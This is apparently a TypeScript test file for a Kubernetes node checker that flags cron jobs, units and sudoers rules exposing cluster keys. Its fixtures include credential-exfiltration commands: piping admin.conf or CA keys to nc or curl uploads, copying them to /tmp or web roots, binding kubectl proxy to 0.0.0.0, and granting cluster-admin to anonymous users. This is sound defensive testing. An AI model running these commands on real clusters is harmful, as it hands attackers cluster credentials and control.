import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sentenceOf } from '../../model/finding.js';
import { judged, resultsOf } from '../common/judged.testing.js';
import { givenAwayBy, givesNothingAway, runsByItself } from './given-away.js';
import { at, broken } from './node-seen.testing.js';

const ADMIN = '/etc/kubernetes/admin.conf';
const job = (line: string): string => givenAwayBy('/etc/cron.d/a', `# a job\n${line}\n`).join('; ');
const right = (line: string): string => givenAwayBy('/etc/sudoers.d/a', `${line}\n`).join('; ');

describe('what runs by itself', () => {
  it('gives nothing away where it keeps keys to itself', () => {
    for (const sound of [
      `* * * * * root chmod 600 ${ADMIN}`,
      `* * * * * root chmod -R go-rwx /etc/kubernetes/pki`,
      '* * * * * root chmod 644 /etc/kubernetes/pki/ca.crt',
      '0 3 * * * root tar -czf /root/backup/pki.tgz /etc/kubernetes/pki',
      `0 3 * * * root kubectl --kubeconfig=${ADMIN} get nodes > /tmp/nodes`,
      '0 3 * * * root curl -s https://a.example/ping -d ok',
      `0 3 * * * root KUBECONFIG=${ADMIN} kubectl proxy --address=127.0.0.1`,
      `# cp ${ADMIN} /tmp/`,
      `  ; cp ${ADMIN} /tmp/`,
      `true # cp ${ADMIN} /tmp/`,
      `* * * * * root chmod u+r,go= ${ADMIN}`,
      `* * * * * root chmod u=rw,g-r,o-r ${ADMIN}`,
      `* * * * * root chmod g+w ${ADMIN}`,
      `* * * * * root chmod 711 ${ADMIN}`,
      `* * * * * root chmod ${ADMIN}`,
      `cp ${ADMIN} /root/tmp/`,
      `cp ${ADMIN} /tmpfile`,
      `cp ${ADMIN} /root/x;cp /a /b/tmp`,
      `ls ${ADMIN} /tmp`,
      'cp /etc/kubernetes/pki/ca.crt /etc/kubernetes/kubelet.conf /tmp/',
      'cp /etc/kubernetes-backup/a /tmp/',
      'cp /etc/kubernetes/pki/*.crt /etc/kubernetes/pki/etcd/*.crt /etc/kubernetes/*.yaml /tmp/',
      'cp -r /etc/kubernetes/manifests /etc/kubernetes/pki.crt /tmp/',
      `curl -s https://a.example/ --cert ${ADMIN}`,
      `test -r ${ADMIN} -T /x`,
      `curl x-T ${ADMIN}`,
      `curl -o ${ADMIN} https://a.example -s -Tx`,
      `sha256sum ${ADMIN} | grep nc`,
      'cat /etc/kubernetes/pki/ca.crt | nc 192.0.2.1 99',
      'python3 -m http.server --directory /srv',
      'kubeadm token create --config /tmp/c.yaml > /root/j',
      'kubeadm token create --print-join-command | tee /root/j',
      'kubeadm token list > /tmp/j',
      'vault token create --ttl 0 > /tmp/j',
      'kubeadm token create --ttl 0h1m',
      'kubeadm token create --ttl 01h',
      'kubeadm token create --ttl=10h',
      'kubectl proxy',
      'kubectl proxy --address="127.0.0.1"',
      "kubectl proxy --address='localhost' --port 1",
      'kubectl get --address=0.0.0.0',
      'socat proxy --address=0.0.0.0',
      "kubectl proxy --accept-hosts='^localhost$'",
      'kubectl create rolebinding a --clusterrole=view --group=system:authenticated',
      'kubectl create role a --verb=get --user=system:anonymous --resource=admin',
      'kubectl create clusterrolebinding a --clusterrole=admin --group=system:authenticated-ops --dry-run',
      // what no shell reads
      `cp ${ADMIN} /tmp/ ${'a'.repeat(2000)}`,
      'ExecStart=/usr/bin/kubeadm token create --ttl 1h',
      'kubectl create clusterrolebinding ops --clusterrole=cluster-admin --group=ops',
    ])
      assert.equal(job(sound), '', sound);
    assert.equal(right('%sudo ALL=(ALL:ALL) ALL'), '');
    assert.equal(right('dev ALL=(root) NOPASSWD: /usr/bin/systemctl restart kubelet'), '');
  });

  it('is told where it opens, copies or sends a key, or lets others in', () => {
    const opened = 'a key that is opened to others';
    for (const mode of [
      ...['644', '0755', '640', '604', '00644', '44', 'a+r', '+r', 'go=rX', 'ugo=r', 'u=rw,go=r', 'u=rw,g=,o=r', 'g+r'],
      ...['=r', 'o+wr', '-R a+r', '--recursive 644', '-R -v 644', ' 644', '-R  0644'],
    ])
      assert.equal(job(`chmod ${mode} ${ADMIN}`), opened);
    assert.equal(job('chmod -R 755 /etc/kubernetes/pki'), opened);
    assert.equal(job('chmod 644 /etc/kubernetes/pki/*'), opened);
    const copied = 'a key that goes where everybody reads';
    assert.equal(job('cp /etc/kubernetes/pki/etcd/ca.key /var/www/html/'), copied);
    assert.equal(job(`cat ${ADMIN} > /tmp/x`), copied);
    assert.equal(job(`cp -r /etc/kubernetes \\\n  /dev/shm/x`), copied);
    assert.equal(job(`ExecStart=/usr/bin/cp ${ADMIN}\\\n/tmp/x`), copied);
    assert.equal(job(`ExecStart=/usr/bin/cp ${ADMIN}\\\r\n/tmp/x`), copied);
    for (const command of [
      ...['cp', 'mv', 'install', 'ln -s', 'rsync -a', 'tar -czf /tmp/x', 'zip /tmp/x', 'tee /tmp/x <'].map(
        (program) => `${program} ${ADMIN} /tmp`,
      ),
      ...['/var/tmp/', '/dev/shm', '/var/www/html', '/usr/share/nginx/html', '/srv/www/x', '"/tmp"', "'/tmp/x'"].map(
        (folder) => `cp ${ADMIN} ${folder}`,
      ),
      ...[
        'super-admin.conf',
        'pki/sa.key',
        'pki/etcd/*',
        'pki/etcd',
        'pki/*',
        'pki/*.key',
        'pki',
        'pki/',
        '*',
        '*.conf',
        '',
      ].map((name) => `cp -r /etc/kubernetes/${name} /tmp/`),
      'cp -r "/etc/kubernetes/pki" /tmp',
      'cd /etc/kubernetes; cp admin.conf /tmp/x',
      `cat ${ADMIN} >/tmp/x`,
      `/tmp/tool; cp ${ADMIN} /root/`,
      `cp ${ADMIN} /tmp # a copy`,
      `cp ${ADMIN} /tmp/ ${'a'.repeat(2000 - `cp ${ADMIN} /tmp/ `.length)}`,
    ])
      assert.equal(job(command), copied, command);
    assert.equal(givenAwayBy('/etc/cron.d/a', `/tmp/tool cp ${ADMIN}`).join(), copied);
    const sent = 'a key that is sent away';
    assert.equal(job(`curl -s -F f=@${ADMIN} https://a.example`), sent);
    assert.equal(job('cat /etc/kubernetes/pki/ca.key | nc 192.0.2.1 99'), sent);
    for (const command of [
      ...['--data-binary', '--post-file', '--upload-file', '-T', '-d'].map((how) => `curl ${how} ${ADMIN} https://a`),
      ...['nc', 'ncat', 'netcat', 'socat', 'curl'].map((program) => `base64 ${ADMIN} |${program} a 1`),
      `wget --post-file=${ADMIN} https://a.example`,
      `base64 ${ADMIN} |   nc a 1`,
    ])
      assert.equal(job(command), sent, command);
    assert.equal(job('python3 -m http.server --directory /etc/kubernetes'), 'keys that a server hands out');
    assert.equal(job('kubeadm token create --print-join-command > /tmp/j'), 'a join that goes where everybody reads');
    const join = 'a join that goes where everybody reads';
    for (const command of ['>> /var/www/j', '>/tmp/j', '| tee /tmp/j', '|tee -a /srv/www/j'])
      assert.equal(job(`kubeadm token create --print-join-command ${command}`), join, command);
    for (const ttl of [' 0', '=0', ' 0s', '=0m', '=0h', '="0"', " '0s'", '=0h0m0s', '=0 --print-join-command'])
      assert.equal(job(`kubeadm token create --ttl${ttl}`), 'a token without an end', ttl);
    for (const server of ['python -m SimpleHTTPServer', 'webfsd; webfs', 'python3 -m http.server'])
      assert.equal(job(`cd /etc/kubernetes && ${server}`), 'keys that a server hands out', server);
    const open = 'the API, with the rights of a kubeconfig, for whoever comes';
    assert.equal(job('kubectl proxy --address=0.0.0.0'), open);
    assert.equal(job("kubectl proxy --accept-hosts='^.*$'"), open);
    for (const how of ['--address 0.0.0.0', '--address="0.0.0.0"', "--address='::'", '--accept-hosts .*'])
      assert.equal(job(`kubectl proxy ${how}`), open, how);
    const all = 'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous';
    assert.equal(job(all), 'rights for everybody');
    for (const group of ['system:unauthenticated', 'system:authenticated'])
      assert.equal(
        job(`kubectl create rolebinding x --clusterrole=admin --group=${group} -n kube-system`),
        'rights for everybody',
      );
    assert.equal(
      job(`chmod 644 ${ADMIN} && cp ${ADMIN} /tmp/x\ncp ${ADMIN} /tmp/y`),
      'a key that is opened to others; a key that goes where everybody reads',
    );
    assert.equal(right(`dev ALL=(root) NOPASSWD: /usr/bin/cat ${ADMIN}`), 'a right to read what only root may');
    // what is no job is judged by what it lets others do
    assert.equal(right(`dev ALL=(root) /usr/bin/cp ${ADMIN} /tmp/x`), 'a right to read what only root may');
    assert.equal(right(`dev ALL=(root) /usr/bin/chmod 644 ${ADMIN}`), 'a right to read what only root may');
    assert.equal(right(`dev ALL=(root) /usr/bin/curl -T ${ADMIN} https://a`), '');
    assert.equal(right('dev ALL=(root) /usr/bin/cat /etc/kubernetes/pki/ca.crt'), '');
    assert.equal(right('dev ALL=(root) /usr/bin/kubeadm token list'), '');
    assert.equal(right('dev ALL=(root) /usr/bin/vault token create'), '');
    assert.equal(job('kubeadm token create'), '');
    assert.equal(
      right('dev ALL=(root) NOPASSWD: /usr/bin/kubeadm token create *'),
      'a right to make tokens that machines join with',
    );
  });

  it('is a job, a unit, a script of all, a login or a right, and no file that somebody keeps', () => {
    for (const path of ['/etc/cron.daily/a', '/etc/crontab', '/etc/sudoers', '/etc/rc.local', '/usr/local/bin/a.sh'])
      assert.equal(runsByItself(path), true, path);
    for (const path of [
      ...['/etc/systemd/system/a.service', '/etc/profile.d/a.sh', '/var/spool/cron/crontabs/root', '/usr/local/sbin/a'],
      '/etc/sudoers.d/a',
    ])
      assert.equal(runsByItself(path), true, path);
    for (const path of ['/etc/cron.d/a', '/var/spool/cron/a', '/usr/local/bin/a'])
      assert.equal(runsByItself(`/srv/backup${path}`), false, path);
    for (const path of ['/root/a.sh', '/etc/kubernetes/a.sh', '/var/log/kubeadm.log'])
      assert.equal(runsByItself(path), false, path);
    const one = (path: string, more: object = {}) => {
      const { file } = at(path, { kind: 'other' });
      return { path, file: file === null ? null : { ...file, ...more } };
    };
    assert.equal(resultsOf(givesNothingAway, [one('/etc/crontab')], undefined).join(), 'met');
    assert.equal(resultsOf(givesNothingAway, [one('/etc/crontab', { gives: ['a'] })], undefined).join(), 'unmet');
    assert.deepEqual(resultsOf(givesNothingAway, [one('/root/a.sh', { gives: ['a'] })], undefined), []);
    assert.deepEqual(
      resultsOf(givesNothingAway, [{ path: '/etc/crontab', file: null }, broken('/etc/crontab')], undefined),
      [],
    );
    assert.deepEqual(
      judged(givesNothingAway, [one('/etc/crontab'), one('/etc/cron.d/b', { gives: ['a', 'b'] })], undefined).map(
        sentenceOf,
      ),
      [
        '/etc/crontab: it gives away no key, and no way in; seen: it gives none',
        '/etc/cron.d/b: it gives away no key, and no way in; seen: a, b',
      ],
    );
  });
});

it('a right to read what only root may is one, whatever it is read by', () => {
  const programs =
    'cat less more head tail cp mv rsync scp install vi vim nano tee base64 xxd dd tar sed awk grep chmod chown kubectl';
  for (const program of programs.split(' '))
    assert.equal(right(`a ALL=(root) NOPASSWD: /x/${program} ${ADMIN}`), 'a right to read what only root may', program);
  assert.equal(right(`a ALL=(root) NOPASSWD: /x/stat ${ADMIN}`), '');
  for (const place of ['/tmp', '/var/tmp', '/dev/shm', '/var/www', '/usr/share/nginx', '/srv/www'])
    for (const end of ['', '/', '/a', ' ', '"', "'"])
      assert.equal(job(`cp ${ADMIN} ${place}${end}`), 'a key that goes where everybody reads', `${place}${end}`);
  for (const address of ['127.0.0.1', 'localhost', '::1'])
    assert.equal(job(`kubectl proxy --address=${address}`), '', address);
});
